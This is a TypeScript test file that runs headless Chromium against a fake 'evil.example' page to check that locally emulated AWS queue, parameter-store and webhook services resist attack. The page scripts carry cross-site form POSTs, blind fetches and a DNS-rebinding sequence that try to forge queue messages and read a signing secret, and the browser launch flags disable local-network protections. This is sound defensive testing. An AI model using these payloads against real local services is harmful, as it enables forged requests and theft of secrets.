import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync } from 'node:fs';
import { createServer, request as send } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { close, listen } from '../../../templates/framework/local/http-server';
import { startLocalRun } from '../support/local-run';
import type { LocalRunChild } from '../support/local-run';

/*
 * What a page that is open in a real browser can do at a local run. Without Chromium these are skipped; hostile-requests.test.ts sends what a browser sends.
 */

/** The first of its names that there is. */
const CHROMIUM = ['chromium', 'chromium-browser', 'google-chrome'].find((name) => {
  try {
    return execFileSync(name, ['--version'], { stdio: 'ignore' }) !== undefined;
  } catch {
    return false;
  }
});

if (CHROMIUM === undefined) console.warn('SKIPPED: pages in a browser, because there is no Chromium.');
(CHROMIUM === undefined ? describe.skip : describe)('a page in Chromium', () => {
  let local: LocalRunChild;
  beforeAll(async () => { local = await startLocalRun(); }, 60_000);
  afterAll(() => local?.stop());

  /**
   * Opens a page of evil.example, and returns what it reports.
   *
   * @param port in the page's address. Whatever else is asked of evil.example at that port is answered by this machine, as after DNS rebinding.
   * @param script ends with report(…).
   */
  async function open(port: number, script: string): Promise<unknown> {
    let report: (value: unknown) => void;
    const reported = new Promise((resolve) => { report = resolve; });
    const page = `<!doctype html><meta charset="utf-8"><body><script type="module">
      const report = (value) => fetch('/report', { method: 'POST', body: JSON.stringify(value) });
      try { ${script} } catch (error) { report(String(error)); }</script>`;
    const proxy = createServer((request, response) => {
      const { hostname, port: to, pathname, search } = new URL(request.url!);
      if (hostname !== 'evil.example') return void response.writeHead(502).end();
      if (pathname === '/page') return void response.writeHead(200, { 'content-type': 'text/html' }).end(page);
      if (pathname === '/report') {
        return void bodyOf(request).then((body) => {
          report(JSON.parse(body));
          response.end();
        });
      }
      const onward = send({ host: '127.0.0.1', port: Number(to), method: request.method, path: pathname + search, headers: request.headers }, (answer) => {
        response.writeHead(answer.statusCode!, answer.headers);
        answer.pipe(response);
      });
      onward.on('error', () => response.destroy());
      request.pipe(onward);
    });
    const profile = mkdtempSync(join(tmpdir(), 'mozdef-ef-chromium-'));
    const browser = spawn(CHROMIUM!, [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run', `--user-data-dir=${profile}`,
      // A page of another network asks for permission before it reaches this one: here it is one of this network, or was given it.
      '--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWarn,BlockInsecurePrivateNetworkRequests',
      `--proxy-server=http://127.0.0.1:${await listen(proxy, 0)}`, `http://evil.example:${port}/page`,
    ], { stdio: 'ignore', detached: true });
    try {
      return await reported;
    } finally {
      const ended = once(browser, 'close');
      process.kill(-browser.pid!, 'SIGKILL');
      await ended;
      await close(proxy);
    }
  }

  test('puts nothing on a queue by forms and blind requests', async () => {
    const { sqs, ssm, webhook } = local.ports;
    const topic = 'arn:aws:sns:us-west-2:000000000000:t';
    const forms = [
      { Action: 'CreateTopic', Name: 't' },
      {
        'Action': 'Subscribe',
        'TopicArn': topic,
        'Protocol': 'sqs',
        'Endpoint': 'arn:aws:sqs:us-west-2:000000000000:MozDef-EF-example-dev',
        'Attributes.entry.1.key': 'RawMessageDelivery',
        'Attributes.entry.1.value': 'true',
      },
      { Action: 'Publish', TopicArn: topic, Message: JSON.stringify({ summary: 'forged' }) },
    ];
    expect(await open(18_999, `
      for (const fields of ${JSON.stringify(forms)}) {
        const frame = document.createElement('iframe');
        frame.name = 'frame' + Math.random();
        document.body.append(frame);
        const form = Object.assign(document.createElement('form'), { method: 'POST', action: 'http://127.0.0.1:${sqs}/', target: frame.name });
        for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }));
        document.body.append(form);
        const loaded = new Promise((resolve) => { frame.onload = resolve; });
        form.submit();
        await loaded;
      }
      const read = [];
      for (const port of ${JSON.stringify([sqs, ssm, webhook])}) {
        for (const path of ['/', '/dev/example', '/_console/state', '/_fauxqs/queues/MozDef-EF-example-dev']) {
          for (const options of [{ mode: 'no-cors', method: 'POST', body: '{}' }, { mode: 'cors' }, { mode: 'cors', method: 'POST', body: '{}', headers: { 'X-Amz-Target': 'AmazonSSM.GetParameters' } }]) {
            await fetch('http://127.0.0.1:' + port + path, options).then(async (answer) => { if (answer.type !== 'opaque') read.push(await answer.text()); }, () => {});
          }
        }
      }
      report(read);
    `)).toEqual([]);
    const state = await (await fetch(new URL('_console/state', local.run.consoleUrl))).text();
    expect(JSON.parse(state)).toMatchObject({ queue: { count: 0 }, deadLetters: { count: 0 } });
    expect(state).not.toContain('forged');
  }, 60_000);

  test('reads nothing after its name was made to be this machine (DNS rebinding)', async () => {
    for (const port of Object.values(local.ports)) {
      const answers = await open(port, `
        const ask = async (path, options) => { const answer = await fetch(path, options); return [path, answer.status, await answer.text()]; };
        const call = (target, input, type) => ask('/', { method: 'POST', headers: { 'X-Amz-Target': target, 'Content-Type': type }, body: JSON.stringify(input) });
        report([
          await ask('/'), await ask('/_console/state'), await ask('/_fauxqs/queues/MozDef-EF-example-dev'), await ask(${JSON.stringify(new URL(local.run.consoleUrl).pathname)}),
          await call('AmazonSSM.GetParameters', { Names: ['/MozDef-EF/example/dev/signing_secret'] }, 'application/x-amz-json-1.1'),
          await call('AmazonSQS.ReceiveMessage', { QueueUrl: ${JSON.stringify(local.run.queueUrl)} }, 'application/x-amz-json-1.0'),
        ]);
      `) as [path: string, status: number, text: string][];
      expect(answers.map(([path, status]) => [path, status])).toEqual(answers.map(([path]) => [path, 403]));
      expect(JSON.stringify(answers)).not.toContain(local.run.secrets.signing_secret);
    }
  }, 60_000);
});

async function bodyOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}
